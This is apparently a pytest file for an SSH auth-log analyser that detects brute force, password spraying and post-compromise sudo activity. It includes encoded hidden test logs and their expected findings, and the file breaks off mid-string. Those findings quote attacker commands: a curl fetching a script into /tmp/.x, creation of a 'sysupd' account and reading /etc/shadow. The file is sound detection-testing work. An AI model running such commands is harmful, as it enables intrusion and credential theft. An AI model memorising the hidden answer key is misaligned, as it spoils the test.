import os
import subprocess

import pytest

import tg_guard
import base64, configparser, csv, gzip, ipaddress, json, re, tempfile

FMT = 'ipset'
BLOCKFILE = 'blocklist.ipset'
VISIBLE = {'filter': [['Dec 30 14:12:09 backup-nas sshd[2951]: Accepted password for tova from 10.16.19.110 port 56244 ssh2',
             None],
            ['Dec 30 14:23:40 backup-nas sudo[2953]: pam_unix(sudo:session): session opened for user root(uid=0) by '
             'tova(uid=1003)',
             None],
            ['Dec 30 16:37:10 backup-nas sshd[3094]: Accepted publickey for kira from 10.27.110.62 port 38564 ssh2: '
             'ED25519 SHA256:9bcc2328968cb68cf2c43c187ac00b3ca6f15e14200',
             None],
            ['Dec 30 18:10:36 backup-nas sshd[3113]: Accepted publickey for bjorn from 10.39.52.200 port 49834 ssh2: '
             'ED25519 SHA256:e15f995eff6a28cdbc49b210e318702de5ffa44983d',
             None],
            ['Dec 30 18:13:43 backup-nas sudo[3114]:    bjorn : TTY=pts/3 ; PWD=/home/bjorn ; USER=root ; '
             'COMMAND=/usr/bin/tail -n 50 /var/log/syslog',
             None],
            ['Dec 30 19:51:59 backup-nas sshd[3180]: Failed password for gwen from 10.49.138.196 port 37260 ssh2',
             '10.49.138.196'],
            ['Dec 30 19:51:59 backup-nas sshd[3180]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.49.138.196  user=gwen',
             None],
            ['Dec 30 19:52:03 backup-nas sshd[3186]: Failed password for gwen from 10.49.138.196 port 64098 ssh2',
             '10.49.138.196'],
            ['Dec 30 19:52:03 backup-nas sshd[3186]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.49.138.196  user=gwen',
             None],
            ['Dec 30 19:52:07 backup-nas sshd[3205]: Failed password for gwen from 10.49.138.196 port 44869 ssh2',
             '10.49.138.196'],
            ['Dec 30 19:52:07 backup-nas sshd[3205]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.49.138.196  user=gwen',
             None],
            ['Dec 30 19:52:11 backup-nas sshd[3207]: Failed password for gwen from 10.49.138.196 port 43005 ssh2',
             '10.49.138.196'],
            ['Dec 30 19:52:11 backup-nas sshd[3207]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
             'euid=0 tty=ssh ruser= rhost=10.49.138.196  user=gwen',
             None],
            ['Dec 30 19:52:29 backup-nas sshd[3239]: Accepted password for gwen from 10.49.138.196 port 46664 ssh2',
             None],
            ['Dec 30 21:56:53 backup-nas sshd[3260]: Accepted publickey for chidi from 10.2.183.162 port 46126 ssh2: '
             'ED25519 SHA256:24959aab510ccf49167be9892adfe93e78870ed7a20',
             None],
            ['Dec 31 13:15:29 backup-nas sshd[3284]: Accepted publickey for ingrid from 10.55.115.213 port 58891 ssh2: '
             'ED25519 SHA256:70e5d8954a19f27751621eca7ee75ecb69d9e27ebc8',
             None],
            ['Dec 31 13:41:09 backup-nas sshd[3313]: Accepted password for bjorn from 10.50.96.215 port 62005 ssh2',
             None],
            ['Dec 31 13:41:09 backup-nas sshd[3313]: pam_unix(sshd:session): session opened for user bjorn(uid=1001) '
             'by (uid=0)',
             None],
            ['Dec 31 13:52:32 backup-nas sudo[3340]: pam_unix(sudo:session): session opened for user root(uid=0) by '
             'bjorn(uid=1001)',
             None],
            ['Dec 31 13:53:55 backup-nas sshd[3370]: Accepted publickey for tova from 10.45.131.226 port 61719 ssh2: '
             'ED25519 SHA256:b155ad083015ec4fa2150bad97c793a5726aa7e6a33',
             None],
            ['Dec 31 13:53:55 backup-nas sshd[3370]: pam_unix(sshd:session): session opened for user tova(uid=1003) by '
             '(uid=0)',
             None],
            ['Dec 31 15:57:50 backup-nas sshd[3394]: Accepted publickey for gwen from 10.58.185.14 port 34855 ssh2: '
             'ED25519 SHA256:49e46d934b11e16404aa535f2cdca5c146b31a59b63',
             None],
            ['Dec 31 15:57:50 backup-nas sshd[3394]: pam_unix(sshd:session): session opened for user gwen(uid=1002) by '
             '(uid=0)',
             None],
            ['Dec 31 18:39:56 backup-nas sshd[3436]: Accepted password for kira from 10.36.76.129 port 44686 ssh2',
             None],
            ['Dec 31 18:39:56 backup-nas sshd[3436]: pam_unix(sshd:session): session opened for user kira(uid=1004) by '
             '(uid=0)',
             None],
            ['Dec 31 19:47:59 backup-nas sshd[3489]: Accepted publickey for kira from 10.8.138.114 port 63315 ssh2: '
             'ED25519 SHA256:9bcc2328968cb68cf2c43c187ac00b3ca6f15e14200',
             None],
            ['Dec 31 20:42:48 backup-nas sshd[3518]: Accepted publickey for bjorn from 10.14.53.100 port 51624 ssh2: '
             'ED25519 SHA256:e15f995eff6a28cdbc49b210e318702de5ffa44983d',
             None],
            ['Jan  1 19:56:57 backup-nas CRON[4268]: pam_unix(cron:session): session opened for user root(uid=0) by '
             '(uid=0)',
             None],
            ['Jan  1 20:05:41 backup-nas sshd[4070]: Accepted publickey for chidi from 10.52.93.66 port 61806 ssh2: '
             'ED25519 SHA256:24959aab510ccf49167be9892adfe93e78870ed7a20',
             None]],
 'findings': {'compromised': [{'ip': '159.31.186.3', 'time': '2024-12-31T22:25:23Z', 'user': 'tova'}],
              'spraying': [{'accounts': 5, 'first_seen': '2025-01-01T10:45:05Z', 'ip': '77.56.72.113'}],
              'sudo_after_compromise': [{'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                         'time': '2024-12-31T22:31:43Z',
                                         'user': 'tova'},
                                        {'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                         'time': '2024-12-31T22:33:12Z',
                                         'user': 'tova'}]}}
HIDDEN = [{'files': {'auth.log': 'H4sIAAAAAAACA8Va227bRhB971fsY/xgau83Qw9BnKItkKRIUhRFUBQUSdmKJVLgJY7/vktSikUu76Jiw7Bky5ozZ87s7OyObgMPEAgQ0ohr82Qb+HdBfA0RSJJ7/4ukFP+rwe/hN3e78UGWBDFw/d0mBOs42gHKHIkcyRzFwD6KU8Ap5PCX20FG9+7uvyzcfH+V/1G7WXp/pYF3H3gP5qUkuSnRsvAhjB7Dc2zmD0GYbjw33UTGc3ezzeLgBmyju9DdBUuQbfwlBEH5kKZPS/NuEOfwSxDfR0m6PCE60JNfDUrgF0weo9gH6ygGm1FhzM3hKhoVNhqTP4c3KNxeRts7d6BTTSHI395CmkHJqEVaaCJt+1zVszJ07zZR0mKaUsHFQKuT03KszculZYcnvWnZH0dLIqVhwyoQVuFIsn1hpdk2IZANNTtZo7E2L6dRhye9Gg0IZF0kjDVsyAkl6iLdu34U7Vv1J4gMtDpVo9E2L6ZRlye9GvXHsSqR0Ixowk7g3nz88P6LErBS3704CnUSJImhargfnoFoH4RB6UWBHkdR+qogfAVWT+Dw9BSMajgVzNtGSR3saNrELDdNLNNcwtl5lGCVLXgMWDsPBKAw61MTeip/5kdfJJe5/Obrq7tzt0CDz5//We7TZEHADfjz79vl4j7aBYvy1Rvw16e3H5e5YfP8zYd3716/N/+RJfFitQkXqUkicB2anQ8svrnxwmTsInlKzMNAN57Xg/nj+HAWTha/Iwj51REUUU1NZG0NJccza1iCEY2mgnVpiJjpTTTh1hIWRXvy2vOCfZov4my13XgPwVNhZvU1ig99GYIOQQ5SyMEIHzozomTZpGjw9hYzhhT49NtrzLjhwP2VhwPm8zXEFK5XcrVeS+F7FGO18lacB5ARDD13oIfVctcf6cL1o564Mdpm5ZuqpmzAi9ZXE0hEHcS4gyk6NJLh5iFKBvrVVG2L9//Q6cR8WWEVZacV9ghBbAiJq9kwHIQTIvAYkLGCFvBHQVGToBgVBcLaphSkdCArTB0sHWTSuowcMdlaIdWDcRlSyhwt6lVPQcHK4lsyaCu+5as9xfdrlMWhu/VSU4KznNBA9DNrbo39D1CssdLYOkopRGhXi4ZMV4GEw01yioN+2OT+QLMTerRpNueoISdMB7oyqklriWR1JZi1bXp3ZONRq5G+y4IkbTNNMJVwoNWpIo22eTmRulzpFak/kJZGRENuwzFe16j40WKZQ4LFQKOTJRpr84ISdbjSK1FvHBsUwg1ogoysdZLXSbSaPUOjcTYvqlGrK+fWujySlkpUm77XwpN8VK0zCYDYQKuTRRpr84IidbhyXq0rAtmgESE2nJJjah3FCLKBRs+QaJzNi0rU6spZta6IY10hlh+n7SsKzGc/S5dgTEwE6zpLY1N6WPUi4nBlROH8PAowJieCNfL4ww0BQAASc5Ax/YilPsYXrRXEHLIYcjhzFDwcgIvbl4F+NWVlecVUZmLFfJmKiEtepuIJhGq40VSYsp9Mva5Ih1tNzIsjXRtxbtpKVidOYcOYyiC8tOZdfo3XnGDJiUUda9QAIfjLat7l1mjNGeIKW8RNR2uXQoXZfPWqAlZpzcaA9dQryjSidqQkeunc7fBrfO5yhJiwJGSaWndpisCXzt0OtybkLqHQIt70yQJFsHppzTv8mrJHCUot6lJjuzkjxUG0+TqzJ7EwxXAMyNj7zNoUpbk+5H0Zsm4UCZtnmJTkF5q5M67vg+sduE5Acce5co3IyVOS7f2Bvsw8UToBFZqpBlDZHAA6fpqWV9fUXYHr7UDYC3HNx5/V5vUAyvl8XN0ULILUWyT5sf5xIPZlCCNz4GXVU8dhOXHRumafPweEoCMdTKFj9s+yIHJKUGXB9iCMXbA59pEGaVqvOR7X0D601aY4szQPBzAxEayreUDSkKilQxE3KtuHQ9X5J1UOxshBSB53K4Sr23QPyIwzzGdAYpLcvmNhSLSPdaszLyZySg4yteFw/SUUbx7rKhRwKFauS4NAUk44clkgERJcQMFcar7hinhIuHSghzMOzJ4BTU8CrY8JKIZp88CMjhuYlRvM+hEkqZtmyUDcmUdlBSgGkOeglR2sXDBMiJlXZwnGNZYTwRpX5/9bnOlndCsAAA==',
            'journal.json': 'H4sIAAAAAAACA92cW2/aShDH38+nWOWplU7I3mZ2l4oH1NAWqbkocHTUp8g2pqElGBnQaVWd7352jRElzSm22SCbKISLuf1m/js7O7POj7P7+7te9+Owf9W7d38Gw+7V7VmbnDElAAAlBZr9nP1Jzu4/3AyG192rnnvCNB59jtNzys5Dd2zwafDx5v19/7J3Pey/6/fu3HPe3t1cZy+87V+6+0Yb4e7f3vVv7vrDT+4x/OnV77pv+x/zx1n2kfYbDbrvsw+cB4/3q9nk26soTWbtRbxYTJLZ6zbJb5FkHs/iERknKVkt4pSkSbJ8tZqMOvQ1Cb+T/ObZv3/82AvNRVOgo2myeAq9H1GhEtwnolKq9n610Io1BbqaXzVnkvpEROC196uFBtUU6Kp+1dxSas2qIS4WD6Pz/Cv8jKqBe0B1794OVssHy+mu4tlyEgVLhzsOJtNVGr8h0+TzLHiMOyTzKonXV8vl9459NUmdLTokfUgWyw6jLaAthBYXSDIrdWaTr8mioWZ6Z01gPT4PFot/knTt+oyHjNPkkezQzpN0SaREyYj9LrwYMTKmDcXKxE9I5YkJojbmKS0E0ELL4kIQFJWhUnkiBTgtIdTHPOUjAjVgigsBOFAOyDzHQF2duBtF8XxZillQoXWTmXcHwf70J7NGlvTYJJWVTIGQgxFCUhSe5H3AkuV5Z4dfknS2dbZqcdmCXN5GUF7U1XUiLevizAYbF/OyLhZcMmWkqpjbrEbJDjgyXRmckNyfbTIcfurMl4sLQd6Q278vOxcPyWN8sT76hvw16N11XI5rb7+9ubrqXttnrBbpRTiZXXxJVuksmEbLKTlfOf83zApb99t3Lb/AeaKGAvAGbWbIJeee01uU1MNoX4XTSfQ1/v7ccEcb2KFlM7E8uHOqVTbi26R3yQGYIYMPXRvA20zgKIx4DCMcUy7pONTheKzVKLLcJoxCxJiCfYMoaKjFjhk1jE1/7aChRkvPBgDmeYKYBuk2GRC0xbgVjE171qkwRyMKThG1ZC7rdGeNjc9lSZ8LgcZnPQSw/kVbC61lU6CrFYGMkMKuAyRdT1ke5j5lDskAsgG7TQDoTgKQHfQ//9fKBgfO/7tDfC+7jT4M/PYlfOQ+LzuuHbRWTYGuNK4tomJem2x26muAX5VsDHRFv3IbqWysQqk95yGmrqU5TlWL0bw0l0w/Bw210nMVOofzc7EqZ11XMDRXWCw9dcAoqKJSeapJK3pacqiPdcrKQGgGvLgMtDGcGfC8NFUcPa/MfovMqGBNRi67MHPG2GRtotychwIpaKkY+ubX7CVdLqVdjNsLU3m0A64KlubryXxMn2sObmVqfLcmNKDvmt2X4DGYbgc6WK+7MsymG+nm6edrdsE4FhKimLrYTWXIxnxsVMggVtwYNCoOUI0gQhw11GJlFZOZciMZLCsZBVI4+xrPBtD8RTt4QrU4Ey0uxFoxSLmEonGijtBHbOFZA2jX19IojZ/KxiG7DgnJXbst7/Cd8s76qPf6Tr2scGB954ka9sMrZpRwDUnlOfIZQWu5QtjOMOslQhY1G2qn59YKv59QbXg0RReNyubcmlJq1qsZj8ggT0oadbRTeWmAQq6LS8MIm3eB8bRiNkhPTBL1sU95KUhksniUYMLSasqEZ/XrE4sSNbRTBWmApqqwNDgFji7B8oxsTkwaNbRTlQlEGlNcGoic2+FgvARIQ6k6MUnUxz4VooSWtOgqXIm81+rtFCld+/OHMmjdFOhqrUjNbPgxTCFjfiTMmPcdg09qSbrF7QVlLmIu83Nifik+GhYjVWEQyDjWEgWyAGLNLKyiCgJpf2koIqYC2TBDHbP8ZBRQrydHGlr/kW+hhWoKdKWRb+cu5XfTEPDabxpy0NgY6Gp+tctCrrj9Xuu55vBAJal82X6S284r3D5wvukcM3GEflK9LHXEPpIF13YgOO36LZNaA8CL7jAQLYZ2+uf53C/AJt/FEth6Mh+v3aykNlxTNEZRz/wCfIeHXadDts0ANhuqJORVr1+CA45jm66rQPNIi3g0isc6jOMQIAqFDLWOIiGoGIHBcUPtdUy9GEE1AnJP51MZiQftKc80sW06sp2mY3ZwT89xlFh9pWS+aBj7gb3GXQnsZ0ehuNfTJTRntU8LLbQ0TYGulBZqm+pIz/+wqfbpvoNG3RTo//HrfwjWLIuJSwAA',
            'timedatectl.txt': 'H4sIAAAAAAACA12MwQqDMBAF7/mKd2wPYgz04rX0JqXQ+AGyLjQ0ZsEsQvx6c9U5zwxwYhCaIjQs3ONGEiOT8gxn3aOxXWPd3eCCrzJ2SbV4KbWjf5pvycoLKAr9kUui3yop7Dz3KJwvh7f/IPO6BaqHiTRsbA7LcHRGlgAAAA=='},
  'host': 'ledger-01',
  'truth': {'filter': [['Dec 30 11:16:30 ledger-01 sshd[8442]: Failed password for invalid user admin from 45.81.85.95 '
                        'port 64060 ssh2',
                        '45.81.85.95'],
                       ['Dec 30 11:16:30 ledger-01 sshd[8442]: Invalid user admin from 45.81.85.95 port 64060', None],
                       ['Dec 30 11:16:30 ledger-01 sshd[8442]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=45.81.85.95',
                        None],
                       ['Dec 30 11:16:47 ledger-01 sshd[8458]: Failed password for olga from 45.81.85.95 port 50854 '
                        'ssh2',
                        '45.81.85.95'],
                       ['Dec 30 11:17:38 ledger-01 sshd[8469]: Failed password for invalid user nagios from '
                        '45.81.85.95 port 44767 ssh2',
                        '45.81.85.95'],
                       ['Dec 30 11:17:38 ledger-01 sshd[8469]: Invalid user nagios from 45.81.85.95 port 44767', None],
                       ['Dec 30 11:17:38 ledger-01 sshd[8469]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=45.81.85.95',
                        None],
                       ['Dec 30 11:19:00 ledger-01 sshd[8472]: Failed password for invalid user support from '
                        '45.81.85.95 port 33052 ssh2',
                        '45.81.85.95'],
                       ['Dec 30 11:19:00 ledger-01 sshd[8472]: Invalid user support from 45.81.85.95 port 33052', None],
                       ['Dec 30 11:22:08 ledger-01 sshd[8497]: Failed password for invalid user hadoop from '
                        '45.81.85.95 port 44313 ssh2',
                        '45.81.85.95'],
                       ['Dec 30 11:22:08 ledger-01 sshd[8497]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=45.81.85.95',
                        None],
                       ['Dec 31 07:00:34 ledger-01 sudo[8687]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by jamal(uid=1006)',
                        None],
                       ['Dec 31 15:47:36 ledger-01 sshd[8758]: pam_unix(sshd:session): session opened for user '
                        'bjorn(uid=1002) by (uid=0)',
                        None],
                       ['Dec 31 17:52:09 ledger-01 sshd[8797]: Failed password for nikos from 10.14.156.241 port 49453 '
                        'ssh2',
                        '10.14.156.241'],
                       ['Dec 31 17:52:39 ledger-01 sshd[8828]: Accepted password for nikos from 10.14.156.241 port '
                        '63372 ssh2',
                        None],
                       ['Dec 31 21:00:38 ledger-01 sshd[9044]: Accepted password for nikos from 10.24.28.184 port '
                        '43229 ssh2',
                        None],
                       ['Dec 31 21:09:16 ledger-01 sudo[9075]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by nikos(uid=1001)',
                        None],
                       ['Dec 31 22:29:27 ledger-01 sshd[9134]: Failed password for invalid user hadoop from '
                        '185.17.60.17 port 42494 ssh2',
                        '185.17.60.17'],
                       ['Dec 31 22:29:27 ledger-01 sshd[9134]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=185.17.60.17',
                        None],
                       ['Dec 31 22:31:11 ledger-01 sshd[9147]: Failed password for invalid user guest from '
                        '185.17.60.17 port 32480 ssh2',
                        '185.17.60.17'],
                       ['Dec 31 22:31:11 ledger-01 sshd[9147]: Invalid user guest from 185.17.60.17 port 32480', None],
                       ['Dec 31 22:31:11 ledger-01 sshd[9147]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=185.17.60.17',
                        None],
                       ['Dec 31 22:33:06 ledger-01 sshd[9156]: Failed password for invalid user user from 185.17.60.17 '
                        'port 60327 ssh2',
                        '185.17.60.17'],
                       ['Dec 31 22:33:06 ledger-01 sshd[9156]: Invalid user user from 185.17.60.17 port 60327', None],
                       ['Dec 31 22:33:06 ledger-01 sshd[9156]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=185.17.60.17',
                        None],
                       ['Dec 31 22:33:06 ledger-01 sshd[9156]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Dec 31 22:33:26 ledger-01 sshd[9173]: Failed password for invalid user hadoop from '
                        '185.17.60.17 port 48617 ssh2',
                        '185.17.60.17'],
                       ['Dec 31 22:33:26 ledger-01 sshd[9173]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=185.17.60.17',
                        None],
                       ['Dec 31 22:34:12 ledger-01 sshd[9186]: Failed password for invalid user guest from '
                        '185.17.60.17 port 60315 ssh2',
                        '185.17.60.17'],
                       ['Dec 31 22:34:12 ledger-01 sshd[9186]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=185.17.60.17',
                        None],
                       ['Dec 31 22:34:33 ledger-01 sshd[9198]: Failed password for invalid user user from 185.17.60.17 '
                        'port 42105 ssh2',
                        '185.17.60.17'],
                       ['Dec 31 22:34:33 ledger-01 sshd[9198]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=185.17.60.17',
                        None],
                       ['Dec 31 22:54:42 ledger-01 CRON[9626]: pam_unix(cron:session): session opened for user '
                        'root(uid=0) by (uid=0)',
                        None],
                       ['Jan  1 03:38:31 ledger-01 sshd[9226]: Failed password for jamal from 134.251.65.90 port 41686 '
                        'ssh2',
                        '134.251.65.90'],
                       ['Jan  1 03:38:31 ledger-01 sshd[9226]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=134.251.65.90  user=jamal',
                        None],
                       ['Jan  1 03:39:08 ledger-01 sshd[9245]: Failed password for root from 134.251.65.90 port 61475 '
                        'ssh2',
                        '134.251.65.90'],
                       ['Jan  1 03:39:08 ledger-01 sshd[9245]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=134.251.65.90  user=root',
                        None],
                       ['Jan  1 03:40:47 ledger-01 sshd[9246]: Failed password for jamal from 134.251.65.90 port 32863 '
                        'ssh2',
                        '134.251.65.90'],
                       ['Jan  1 03:40:47 ledger-01 sshd[9246]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=134.251.65.90  user=jamal',
                        None],
                       ['Jan  1 03:42:17 ledger-01 sshd[9276]: Failed password for root from 134.251.65.90 port 51692 '
                        'ssh2',
                        '134.251.65.90'],
                       ['Jan  1 03:45:14 ledger-01 sshd[9281]: Failed password for jamal from 134.251.65.90 port 61157 '
                        'ssh2',
                        '134.251.65.90'],
                       ['Jan  1 03:45:14 ledger-01 sshd[9281]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=134.251.65.90  user=jamal',
                        None],
                       ['Jan  1 03:45:49 ledger-01 sshd[9306]: Failed password for root from 134.251.65.90 port 51340 '
                        'ssh2',
                        '134.251.65.90'],
                       ['Jan  1 03:46:30 ledger-01 sshd[9329]: Failed password for jamal from 134.251.65.90 port 41744 '
                        'ssh2',
                        '134.251.65.90'],
                       ['Jan  1 03:46:30 ledger-01 sshd[9329]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=134.251.65.90  user=jamal',
                        None],
                       ['Jan  1 03:48:23 ledger-01 sshd[9356]: Accepted password for jamal from 134.251.65.90 port '
                        '62420 ssh2',
                        None],
                       ['Jan  1 03:57:59 ledger-01 sudo[9358]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by jamal(uid=1006)',
                        None],
                       ['Jan  1 04:03:58 ledger-01 sudo[9366]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by jamal(uid=1006)',
                        None],
                       ['Jan  1 18:02:58 ledger-01 sshd[9484]: Accepted password for bjorn from 10.49.221.118 port '
                        '51127 ssh2',
                        None],
                       ['Jan  1 18:33:52 ledger-01 sshd[9517]: Accepted publickey for nikos from 10.57.118.159 port '
                        '48796 ssh2: ED25519 SHA256:91e607baa4ee846361a5e811767075a45a40b3c17a4',
                        None],
                       ['Jan  2 06:45:51 ledger-01 CRON[9577]: pam_unix(cron:session): session opened for user '
                        'root(uid=0) by (uid=0)',
                        None]],
            'findings': {'compromised': [{'ip': '134.251.65.90', 'time': '2025-01-01T03:48:23Z', 'user': 'jamal'}],
                         'spraying': [{'accounts': 5, 'first_seen': '2024-12-30T11:16:30Z', 'ip': '45.81.85.95'}],
                         'sudo_after_compromise': [{'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                                    'time': '2025-01-01T03:54:51Z',
                                                    'user': 'jamal'},
                                                   {'command': '/usr/bin/crontab -l',
                                                    'time': '2025-01-01T03:57:59Z',
                                                    'user': 'jamal'},
                                                   {'command': '/usr/bin/cat /etc/shadow',
                                                    'time': '2025-01-01T04:03:58Z',
                                                    'user': 'jamal'}]}}},
 {'files': {'auth.log': 'H4sIAAAAAAACA81b247bRhJ9z1f0Y/IwVN8vNPRgxAl2AyRZJFksgiBY8KYZxTOkQFK25++3eNFIZJNUk5KiNQxIGHrq1KnTVV1dbH9IIsQwItjnwmcKfdqlD4+fHxj69peff/qDG63/9NEuePnvPt1++TrKs9QvkqLYZuk3Pmq/oWyXpEmMNlmO9kWSozzLyq/323iNv0HhK2q/fvXhiCV9IpZhRc9Z0cd6s8x8IX1Bj5aL4in+gwlSWX4fRcmuhN/d7cPnbfQxea2tbNPHfAsG8+wFXPOE8ITxhEa7LC8RI4zrygr10XcfqBDEoF//8Z4CDImowBt4nDAdhoYFNDY82mCp8UaGmygJZBjFkeAxc/PvjXn1Q4coN47XwSUYs8FQc59IHxMLUJBOQIKi+Jzlje0y+xS8RYNqj3GPizYaimlRR8MNYC6jCvrAh4/xMT58OcLt46yCYwAHf2rnffTbb7+vd2WxYugd+td/PqxXT9lLsqofvkP//vW7X9bVsoHv3/7844/vf4J/sC/yVbhNV3EGCyNHu8IN8sgQfjg/M7qE3yAFRNSn2gqqEuPLOHraxtvjKqYeoSAfb9exULBkh9dxEm9MEJokxDEOg2hDNpuQGxmJGIsgwlgxsolxzAjHbg7OVb32/BAFOig74EmfSksDQxvZG/JH3XlH9+bphPBFpfx+8xkVZVDuCzfYC6XvsX7DlD5XvmD90EqpRzO2V8GoJ41HDDlUMKpIN2cnIW5RhaDmQQrpfhyl4o18LYGjfqSjX/v4TOaWwfYZPaRIYLT6FOSr5+xxVbwW8OHmx4V69uPwBqp8zHxuVUiFJ/akj9v8pAZTT3OPYN4KKqnBw6msN0pzQolINglTsQqlVtqISEoSC0ajxDAah4EUceTm3tzFUPl9CIEYXArKh4IqRF8CxcVwJrPrZPIk7I0yGTAhuNbGoYRqqNYiH5niDtP64TKi46AXEu2q20ASBCWSGx/rfjunsbly63jAYnwZ1njrCJa1zzXErp8HRhPHNGUYtlzjUWaaPJVMS32lPD3n35XzFOAgytKG45hgCy7Yl0+AVX0kabmNgrKC3EA53ufJOwQFOA1ekjWqEVDSfJTl6xp+G+WVP2uUP2VFue5GsXZ1Xbnq5tX3gNjfGicVYpxSfbI1HgCEtgC4ujvtMa9m0xYEWjmLtrLPJRxremfa417NV5sxqizaulssawCC70173Kv5tKFbGKQtbABzf9ojXs1f5ELYanPsc2YBMH1f2hNeLVjkUnZzm1Do7nxBLAB+S7Up0dC3VpMDjwre8q4bJTe/hoifnHB75hvFDVXcoi46g6YWQvzt1E9bjWm3hpjXDeAocejVDR0gzuwSYsjdNR/3a4nmivNB6laLQDG+v+Zjbs3XHJpJbgaICyu2lPD/A83H/FqgOZPYpi6wj40Fwe+d5xNuLdBcYSkGiBOrQ6JC3VvzCb8WaM4V01aeC/hrB3diTnaumNChhTUOcu05Z4MHuaJ6p3dOFb3KdKSaGUT7/Bk9FOipLHf+akWM9gTxwCNPrb54oPVDhlbly27lfXFz6xbTkwZT2WN3wFTDoSDzQ7GN3dBuxJD5mPpUWJhjQ228QOynlyyG7BHC0nQS/UaMeT1rtBofRulozmbPj8duV1UvowiWbb5KaXr5OgkwN18r6AMJMpiuHLq4bpmrY8hEO8ysnT8KSDsC1g/P6PdXts/T4DkqIWX3FRk36Avl6xI/gaR64KTC5r2VMqCgVq2CmrZn08vfSp1z8AbVmtfzif7rIc7r0fl1EjjYlWi/i4MycUO9UeJWr+t9Zu3nsBGOS9/JXKI8ImHLFextGMNHXmLI2ESE4lBxbHSsdagCLEwccxlJynmgGVOJ0Apz5ubf9fPeVAuNmd4UWoBHV594N1inQ7A5WFMTb4p9Sgcac67NaDUOQN/kmM661pWw4zvmbn86DTFXlxr8IIzsBOuHIEWIINjRqsslVr/G6/PlP9NPYCJujBX7Xe30STdIPVZ9HG5+aCq5m+HBRjt6SqKPdfTeNYj79GOafU4vMHm13v3A1M2XoX59Oz+Wzco4QWQ+taY/gqq+Upty13yOWRcEG+JmeLFSM03eVKlxX84q5RZLSyk+MKcTDPeVCuKXbTqxCrDijmYX6zTT5E11GvflrE4ukbRUkj61Km3/ltItuXcmAU5+OU0CutQ5rFCbuhkYNghF/27q9fbq5JbL9KdLXHKNezWUVa0BwdY9SiKu14Z0sDhfhjXYhrSWoZxxaNytvQc6POc7mxQaTCygE8GHRYLHbrvNubXp5OE170udAGr7EgcAmpH7UmzBfanitSiTl+pomSdFGUDY0sdt+sXNiWtfljqAQlvdfUHQLDMl6dWXdIPF9TKsqSVNCeQ9dL5Wz46vn5gNlhUxR6wzLKB579x+rJe9pBPn/c7lYW48Qz1zOOxL2hYwKykhB0NNBdGRTnjCdWhwJBUzKkkwpSHfkCCCz40JIzfvrnfxuIajVf0TcJixZgtSmYkuiJBqsupBNYfy1JZxyiVxs7qgCVpk8hpvuU+Jurkypwcai+PJdniAs24ycmksiY498IBloSnTbkYvUGiWydsqNObKWYXOh9ESaOhtisJs8sw3YJwJyZmb3cUazTR5S43GXZl34huLpCUT7+xeLWA9RJ9R6gT8CnezulikmSZvKdK4KxeWujqOlkTQJhEbTs8qdQyOkdzN6GKFZpq8pULjrlxW6uowWgKp7v80aNDE7FLHBfQ0bnYXazTT5C01Gnfl4lJXR7KR6X/k7bf99jgAAA==',
            'journal.json': 'H4sIAAAAAAACA92aWW/bOBDH3/dTEHlqgY3CIYfHJPCD0bitgeZA7MWiT4EuJ951LEOy2wbFfvelFOUqshtbpQ2pfpDkW7+ZP2c4Q37fu7y8GPQ/jYcng8vyMBr3T873DtkeGKmUASDJq8fe72zv8uPZaHzaPxmUH/iymO9ffd2X+1H51ujz6NPZh8vh8eB0PHw/HFyUH3l3cXZafe98eFw+R1KmfH5+MTy7GI4/l6/pJ99+3383/FS/DtU/uhsa9T9U/7cIby5X8+m3N3GezQ+LtCim2fztIauvWLZI52nCJlnOVkWaszzLlm9W06TH37LoltWXe//89v01ZsFFR5jjWVb8yLwGoURlhVIgVBPCorhO9us7eEoqtdCNSftxnC6WjmWximbT+O/0tqJaZl9CNsmzGwY8UCogFYCxbJHlS6bRasnc3YhDNjgueYiNPvaF0ociocgRgo1tiinaiHisjSSTplyICCcQxu48oSjuprkehFH++hqDobRjNQKAc9xwPGjOjTQk7nTcBP85NkrfKpnOr/Jp8qATEwDYAJS604nUCvFlnUAsFJ9ItKm0UUQydMLBeMK15RMdTeI01FGcxAoT2S1DbaqPOwveK0RuqhCQCgwQiUbgqyR7Dq6bgzN2r4ZDNh5/7i2WxQGwI3b+53Hv4Dq7SQ/qt4/YH6PBRa+MmO763dnJSf/UfWRV5AfRdH6QZE5dOVsU3cJ/9Lv71c2T5I8yWAPemHqC4ClbErR/huAeXWFuNkOwBpUk5XKl9JrynOE8hbRwtbx2mOUpnS+ncbgsaSfhdLbK0yM2y67m4